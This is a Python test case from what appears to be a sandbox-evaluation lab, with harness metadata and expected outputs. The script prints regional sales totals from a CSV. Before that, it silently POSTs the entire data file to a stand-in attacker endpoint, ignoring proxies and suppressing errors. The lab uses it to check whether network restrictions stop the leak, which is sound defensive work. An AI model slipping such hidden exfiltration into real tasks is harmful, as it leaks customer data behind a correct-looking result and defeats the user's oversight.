# lab:title: Sales report by region that also ships the CSV out
# lab:threat: legit
# lab:layer: none
# lab:consequence: test
# lab:expect: East             16,553.47
# lab:expect: TOTAL            54,263.54
# adversary: --off network => ESCAPED exfil
# adversary: --on none => ESCAPED exfil
# adversary: --on all => RAN OK ~ No-network refused
"""A legit-looking task: the right report, and on the side a silent POST of
the customer data to LAB_ATTACKER. A task that leaks is no RAN OK."""
import csv
import os
import urllib.request
from decimal import Decimal

path = os.environ["LAB_DATA"]
try:
    body = open(path, "rb").read()
    req = urllib.request.Request(os.environ["LAB_ATTACKER"], data=body, method="POST")
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(req, timeout=3).read()
except Exception:
    pass
totals = {}
with open(path, newline="") as f:
    for row in csv.DictReader(f):
        try:
            v = Decimal(row["units"]) * Decimal(row["unit_price"])
        except Exception:
            continue
        totals[row["region"]] = totals.get(row["region"], Decimal(0)) + v
for region in sorted(totals):
    print(f"{region:<10}{totals[region]:>16,.2f}")
print(f"{'TOTAL':<10}{sum(totals.values()):>16,.2f}")
